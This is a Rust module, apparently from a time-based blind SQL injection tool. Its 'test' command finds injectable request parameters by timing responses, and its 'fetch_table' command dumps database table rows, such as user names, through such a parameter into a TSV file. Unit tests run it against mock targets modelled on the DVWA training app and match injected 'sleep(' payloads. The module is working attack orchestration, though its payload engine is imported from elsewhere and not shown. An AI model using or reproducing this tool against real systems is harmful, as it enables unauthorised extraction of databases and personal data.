use std::fs::File;
use std::io::Write;
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::Instant;

use anyhow::{Context, Result};
use tracing::info;

use crate::cli::banner::banner;
use crate::engine::exploit::Engine;
use crate::error::AttackError;
use crate::output::formatter::{RowFormatter, TsvFormatter};
use crate::output::status::{StatusFrame, StatusSink};
use crate::web::request::Request;
use crate::web::target::Target;

/// Options for the `test` command.
#[derive(Debug, Clone)]
pub struct TestOptions {
    /// Candidate parameters; empty means "every default parameter".
    pub params: Vec<String>,
    pub threshold: f64,
    pub max_interval_ms: u64,
    pub max_threads: usize,
}

/// Options for the `fetch_table` command.
#[derive(Debug, Clone)]
pub struct FetchTableOptions {
    pub param: String,
    pub table: String,
    pub columns: Vec<String>,
    pub from_row: i64,
    /// `None` fetches until the first absent row.
    pub n_rows: Option<i64>,
    pub min_row_length: i64,
    pub max_row_length: i64,
    pub threshold: f64,
    pub max_interval_ms: u64,
    pub max_threads: usize,
    pub output_path: String,
}

/// An open dump file plus what is still owed to it on shutdown.
struct ActiveDump {
    file: File,
    path: String,
    footer: String,
}

impl ActiveDump {
    fn finalize(mut self) -> std::io::Result<String> {
        self.file.write_all(self.footer.as_bytes())?;
        self.file.flush()?;
        Ok(self.path)
    }
}

/// Top-level control: drives the engine, reports progress to the sink and
/// keeps the dump file consistent across interruption.
pub struct Session<T: Target, S: StatusSink> {
    engine: Engine<T>,
    sink: Arc<S>,
    dump: Arc<Mutex<Option<ActiveDump>>>,
}

impl<T: Target + 'static, S: StatusSink + 'static> Session<T, S> {
    pub fn new(engine: Engine<T>, sink: Arc<S>) -> Self {
        Self {
            engine,
            sink,
            dump: Arc::new(Mutex::new(None)),
        }
    }

    /// Installs a Ctrl-C watcher: any open dump file gets its footer and is
    /// closed, the sink is drained, the process exits. Call once, from the
    /// binary; in-flight requests are left to finish or fail on their own.
    pub fn install_interrupt_handler(&self) {
        let dump = self.dump.clone();
        let sink = self.sink.clone();
        tokio::spawn(async move {
            if tokio::signal::ctrl_c().await.is_ok() {
                sink.log(StatusFrame::Message("Stopped by operator.".to_string()));
                info!("interrupted, shutting down");
                let open_dump = dump.lock().ok().and_then(|mut guard| guard.take());
                if let Some(open_dump) = open_dump {
                    if let Ok(path) = open_dump.finalize() {
                        sink.log(StatusFrame::Message(format!(
                            "You can find the fetched results into '{}'.",
                            path
                        )));
                        info!("the output file has been closed");
                    }
                }
                sink.end();
                std::process::exit(130);
            }
        });
    }

    /// Tests which of the candidate parameters can be exploited and returns
    /// their names. Unexploitable parameters are reported, not fatal; an
    /// unavailable target is.
    pub async fn test(
        &mut self,
        default_request: &Request,
        options: &TestOptions,
    ) -> Result<Vec<String>> {
        if options.threshold <= 1.0 {
            return Err(AttackError::InvalidThreshold(options.threshold).into());
        }
        if options.threshold != self.engine.threshold() {
            self.engine.set_threshold(options.threshold);
        }

        let candidates: Vec<String> = if options.params.is_empty() {
            let mut all: Vec<String> = self.engine.params().keys().cloned().collect();
            all.sort();
            all
        } else {
            options.params.clone()
        };

        self.sink.reset();
        self.sink.log(StatusFrame::Banner(banner()));

        let reference_ms = self.engine.reference_resp_time(default_request).await?;
        let sleep_ms = self.engine.sleep_time(default_request).await?;
        self.sink.log(StatusFrame::TargetTiming {
            reference_ms,
            sleep_ms,
        });

        let mut exploitable = Vec::new();
        for (i, param) in candidates.iter().enumerate() {
            self.sink.log(StatusFrame::Progress {
                message: format!("Testing parameter '{}':", param),
                current: i,
                total: Some(candidates.len()),
            });

            match self
                .engine
                .probe_param(
                    default_request,
                    param,
                    options.max_interval_ms,
                    options.max_threads,
                )
                .await
            {
                Ok(()) => {
                    exploitable.push(param.clone());
                    self.sink.log(StatusFrame::ParamVerdict {
                        param: param.clone(),
                        exploitable: true,
                    });
                }
                Err(AttackError::UnexploitableParameter(_)) => {
                    self.sink.log(StatusFrame::ParamVerdict {
                        param: param.clone(),
                        exploitable: false,
                    });
                }
                Err(e) => return Err(e.into()),
            }
        }

        self.sink.log(StatusFrame::Progress {
            message: "All parameters have been tested:".to_string(),
            current: candidates.len(),
            total: Some(candidates.len()),
        });
        self.sink.end();

        Ok(exploitable)
    }

    /// Dumps rows of a table through the vulnerable parameter, streaming
    /// each fetched row to the output file. Returns the path actually
    /// written (collisions get a `_2` suffix, repeatedly if needed).
    ///
    /// The dump stops at the first absent row, so a sparse table truncates
    /// at its first hole; that is how the end of the table is detected.
    pub async fn fetch_table(
        &mut self,
        default_request: &Request,
        options: &FetchTableOptions,
    ) -> Result<String> {
        if options.threshold <= 1.0 {
            return Err(AttackError::InvalidThreshold(options.threshold).into());
        }
        if options.threshold != self.engine.threshold() {
            self.engine.set_threshold(options.threshold);
        }

        let mut output_path = options.output_path.clone();
        while Path::new(&output_path).is_file() {
            output_path.push_str("_2");
        }

        let formatter = TsvFormatter::new(options.columns.clone());

        // Fail before touching the filesystem if the parameter is a dud.
        self.engine
            .probe_param(
                default_request,
                &options.param,
                options.max_interval_ms,
                options.max_threads,
            )
            .await?;

        let started = Instant::now();

        self.sink.reset();
        self.sink.log(StatusFrame::Banner(banner()));

        let reference_ms = self.engine.reference_resp_time(default_request).await?;
        let sleep_ms = self.engine.sleep_time(default_request).await?;
        self.sink.log(StatusFrame::TargetTiming {
            reference_ms,
            sleep_ms,
        });

        let mut file = File::create(&output_path)
            .with_context(|| format!("Failed to create output file: {}", output_path))?;
        file.write_all(format!("{}\n", formatter.header()).as_bytes())
            .with_context(|| format!("Failed to write to output file: {}", output_path))?;
        *self.dump.lock().expect("output file lock poisoned") = Some(ActiveDump {
            file,
            path: output_path.clone(),
            footer: formatter.footer(),
        });

        let mut current_row_index = options.from_row;
        let mut n_fetched_rows: usize = 0;
        let mut fetch_times_s: Vec<f64> = Vec::new();
        let mut fetch_lengths: Vec<usize> = Vec::new();

        loop {
            if let Some(n_rows) = options.n_rows {
                if current_row_index == options.from_row + n_rows {
                    break;
                }
            }

            self.sink.log(StatusFrame::Progress {
                message: format!("Fetching row {}:", current_row_index),
                current: n_fetched_rows,
                total: options.n_rows.map(|n| n as usize),
            });

            let row_started = Instant::now();
            let row = self
                .engine
                .fetch_row(
                    default_request,
                    &options.param,
                    &options.table,
                    &options.columns,
                    current_row_index,
                    options.min_row_length,
                    options.max_row_length,
                    options.max_interval_ms,
                    options.max_threads,
                )
                .await?;

            let Some(row) = row else {
                // Row past the end of the table.
                break;
            };

            let row_value: String = options
                .columns
                .iter()
                .filter_map(|column| row.get(column).map(String::as_str))
                .collect();
            fetch_times_s.push(row_started.elapsed().as_secs_f64());
            fetch_lengths.push(row_value.chars().count());

            let formatted = formatter.row(&row);
            self.write_row(&formatted)
                .with_context(|| format!("Failed to write to output file: {}", output_path))?;
            n_fetched_rows += 1;

            self.sink.log(StatusFrame::Eta(self.estimate(
                &fetch_times_s,
                &fetch_lengths,
                n_fetched_rows,
                options.n_rows,
            )));
            self.sink.log(StatusFrame::RowFetched {
                formatted,
                fetched: n_fetched_rows,
                total: options.n_rows.map(|n| n as usize),
            });

            current_row_index += 1;
        }

        let open_dump = self
            .dump
            .lock()
            .expect("output file lock poisoned")
            .take();
        if let Some(open_dump) = open_dump {
            open_dump
                .finalize()
                .with_context(|| format!("Failed to finalize output file: {}", output_path))?;
        }

        self.sink.log(StatusFrame::Progress {
            message: "All rows have been fetched:".to_string(),
            current: n_fetched_rows,
            total: options.n_rows.map(|n| n as usize),
        });
        self.sink.log(StatusFrame::Eta(format!(
            "All done in about {:.2} min.",
            started.elapsed().as_secs_f64() / 60.0
        )));
        self.sink.log(StatusFrame::Message(format!(
            "You can find the fetched results into '{}'.",
            output_path
        )));
        self.sink.end();

        Ok(output_path)
    }

    fn write_row(&self, formatted: &str) -> std::io::Result<()> {
        let mut guard = self.dump.lock().expect("output file lock poisoned");
        if let Some(dump) = guard.as_mut() {
            dump.file.write_all(format!("{}\n", formatted).as_bytes())?;
            // Stream eagerly: every fetched row must survive an interrupt.
            dump.file.flush()?;
        }
        Ok(())
    }

    /// Weighted average fetch time, `Σ(tᵢ·lᵢ) / Σ(tᵢ)`; advisory only.
    fn estimate(
        &self,
        fetch_times_s: &[f64],
        fetch_lengths: &[usize],
        n_fetched_rows: usize,
        n_rows: Option<i64>,
    ) -> String {
        let total_time: f64 = fetch_times_s.iter().sum();
        let weighted: f64 = fetch_times_s
            .iter()
            .zip(fetch_lengths)
            .map(|(t, l)| t * *l as f64)
            .sum();
        let average = if total_time > 0.0 {
            weighted / total_time
        } else {
            0.0
        };

        match n_rows {
            None => format!("Estimated time: {:.2} sec (for one row)", average),
            Some(n_rows) => {
                let remaining = (n_rows as usize).saturating_sub(n_fetched_rows);
                format!(
                    "Estimated time: {:.2} min (to completion)",
                    average * remaining as f64 / 60.0
                )
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use std::collections::HashMap;
    use std::path::PathBuf;

    use super::*;
    use crate::engine::defaults::{
        DEFAULT_MAX_ROW_LENGTH, DEFAULT_MIN_ROW_LENGTH, DEFAULT_THRESHOLD,
    };
    use crate::testing::{table_oracle, MockTarget, RecordingSink};

    const BASE_MS: f64 = 50.0;
    const SLOW_MS: f64 = 500.0;

    fn dvwa_params() -> HashMap<String, String> {
        HashMap::from([
            ("id".to_string(), "1".to_string()),
            ("Submit".to_string(), "Submit".to_string()),
        ])
    }

    fn default_request() -> Request {
        Request::new("get", dvwa_params(), HashMap::new())
    }

    fn test_options() -> TestOptions {
        TestOptions {
            params: Vec::new(),
            threshold: DEFAULT_THRESHOLD,
            max_interval_ms: 0,
            max_threads: 2,
        }
    }

    fn fetch_options(output_path: &Path, columns: &[&str], n_rows: Option<i64>) -> FetchTableOptions {
        FetchTableOptions {
            param: "id".to_string(),
            table: "users".to_string(),
            columns: columns.iter().map(|c| c.to_string()).collect(),
            from_row: 0,
            n_rows,
            min_row_length: DEFAULT_MIN_ROW_LENGTH,
            max_row_length: DEFAULT_MAX_ROW_LENGTH,
            threshold: DEFAULT_THRESHOLD,
            max_interval_ms: 0,
            max_threads: 2,
            output_path: output_path.to_string_lossy().into_owned(),
        }
    }

    fn session_for(
        target: std::sync::Arc<MockTarget>,
    ) -> (Session<MockTarget, RecordingSink>, Arc<RecordingSink>) {
        let sink = Arc::new(RecordingSink::new());
        let engine = Engine::new(target, dvwa_params());
        (Session::new(engine, sink.clone()), sink)
    }

    fn temp_out(name: &str) -> PathBuf {
        let dir = std::env::temp_dir().join(format!("timesink-tests-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join(name);
        let _ = std::fs::remove_file(&path);
        let _ = std::fs::remove_file(path.with_file_name(format!("{}_2", name)));
        let _ = std::fs::remove_file(path.with_file_name(format!("{}_2_2", name)));
        path
    }

    /// Oracle where only payload family 0 injected into `id` sleeps.
    fn id_vulnerable_target() -> Arc<MockTarget> {
        Arc::new(MockTarget::new("http://mock.test", |request: &Request| {
            let id = &request.params()["id"];
            if id.contains("sleep(") && !id.starts_with("1'") {
                Ok(SLOW_MS)
            } else {
                Ok(BASE_MS)
            }
        }))
    }

    #[tokio::test(start_paused = true)]
    async fn invalid_threshold_is_rejected_before_any_request() {
        let target = Arc::new(MockTarget::new("http://mock.test", |_: &Request| Ok(BASE_MS)));
        let (mut session, _) = session_for(target.clone());

        let mut options = test_options();
        options.threshold = 1.0;
        let err = session.test(&default_request(), &options).await.unwrap_err();

        assert!(matches!(
            err.downcast_ref::<AttackError>(),
            Some(AttackError::InvalidThreshold(_))
        ));
        assert_eq!(target.calls(), 0);
    }

    #[tokio::test(start_paused = true)]
    async fn invalid_threshold_rejects_fetch_table_too() {
        let target = Arc::new(MockTarget::new("http://mock.test", |_: &Request| Ok(BASE_MS)));
        let (mut session, _) = session_for(target.clone());

        let output = temp_out("threshold.out");
        let mut options = fetch_options(&output, &["first_name"], Some(1));
        options.threshold = 0.5;
        let err = session
            .fetch_table(&default_request(), &options)
            .await
            .unwrap_err();

        assert!(matches!(
            err.downcast_ref::<AttackError>(),
            Some(AttackError::InvalidThreshold(_))
        ));
        assert_eq!(target.calls(), 0);
        assert!(!output.exists());
    }

    #[tokio::test(start_paused = true)]
    async fn test_reports_the_exploitable_parameter() {
        let (mut session, sink) = session_for(id_vulnerable_target());

        let exploitable = session
            .test(&default_request(), &test_options())
            .await
            .unwrap();

        assert_eq!(exploitable, vec!["id".to_string()]);
        assert_eq!(sink.resets(), 1);
        assert!(sink.ended());
        assert!(sink.frames().iter().any(|frame| matches!(
            frame,
            StatusFrame::ParamVerdict { param, exploitable: false } if param == "Submit"
        )));
    }

    #[tokio::test(start_paused = true)]
    async fn test_with_nothing_exploitable_returns_empty() {
        let target = Arc::new(MockTarget::new("http://mock.test", |_: &Request| Ok(BASE_MS)));
        let (mut session, sink) = session_for(target);

        let exploitable = session
            .test(&default_request(), &test_options())
            .await
            .unwrap();

        assert!(exploitable.is_empty());
        assert!(sink.ended());
    }

    #[tokio::test(start_paused = true)]
    async fn test_aborts_when_the_target_goes_away() {
        let target = Arc::new(MockTarget::new("http://mock.test", |request: &Request| {
            if request.params()["id"] == "1" {
                Ok(BASE_MS)
            } else {
                Err(AttackError::TargetUnavailable {
                    url: "http://mock.test".into(),
                    request: request.to_string(),
                    status: "500".into(),
                })
            }
        }));
        let (mut session, _) = session_for(target);

        let err = session
            .test(&default_request(), &test_options())
            .await
            .unwrap_err();
        assert!(matches!(
            err.downcast_ref::<AttackError>(),
            Some(AttackError::TargetUnavailable { .. })
        ));
    }

    #[tokio::test(start_paused = true)]
    async fn fetch_table_dumps_two_rows_as_tsv() {
        let target = table_oracle(
            "id",
            vec!["admin\tadmin".to_string(), "Gordon\tBrown".to_string()],
            BASE_MS,
            SLOW_MS,
        );
        let (mut session, sink) = session_for(target);

        let output = temp_out("two_rows.out");
        let options = fetch_options(&output, &["first_name", "last_name"], Some(2));
        let written = session
            .fetch_table(&default_request(), &options)
            .await
            .unwrap();

        let content = std::fs::read_to_string(&written).unwrap();
        assert_eq!(
            content,
            "first_name\tlast_name\nadmin\tadmin\nGordon\tBrown\n"
        );
        assert!(sink.ended());
    }

    #[tokio::test(start_paused = true)]
    async fn fetch_table_stops_at_the_first_absent_row() {
        let target = table_oracle("id", vec!["Gordon".to_string()], BASE_MS, SLOW_MS);
        let (mut session, _) = session_for(target);

        let output = temp_out("until_end.out");
        let options = fetch_options(&output, &["first_name"], None);
        let written = session
            .fetch_table(&default_request(), &options)
            .await
            .unwrap();

        let content = std::fs::read_to_string(&written).unwrap();
        assert_eq!(content, "first_name\nGordon\n");
    }

    #[tokio::test(start_paused = true)]
    async fn existing_output_files_get_a_suffix() {
        let target = table_oracle("id", vec!["Gordon".to_string()], BASE_MS, SLOW_MS);

        let output = temp_out("collide.out");
        std::fs::write(&output, "already here").unwrap();

        let options = fetch_options(&output, &["first_name"], Some(1));
        let (mut session, _) = session_for(target.clone());
        let written = session
            .fetch_table(&default_request(), &options)
            .await
            .unwrap();
        assert!(written.ends_with("collide.out_2"), "wrote to {}", written);
        assert_eq!(std::fs::read_to_string(&output).unwrap(), "already here");

        // Both taken now: the suffix repeats.
        let (mut session, _) = session_for(target);
        let written = session
            .fetch_table(&default_request(), &options)
            .await
            .unwrap();
        assert!(written.ends_with("collide.out_2_2"), "wrote to {}", written);
    }

    #[tokio::test(start_paused = true)]
    async fn fetch_table_rejects_an_unexploitable_parameter() {
        let target = Arc::new(MockTarget::new("http://mock.test", |_: &Request| Ok(BASE_MS)));
        let (mut session, _) = session_for(target);

        let output = temp_out("dud.out");
        let options = fetch_options(&output, &["first_name"], Some(1));
        let err = session
            .fetch_table(&default_request(), &options)
            .await
            .unwrap_err();

        assert!(matches!(
            err.downcast_ref::<AttackError>(),
            Some(AttackError::UnexploitableParameter(_))
        ));
        assert!(!output.exists());
    }
}
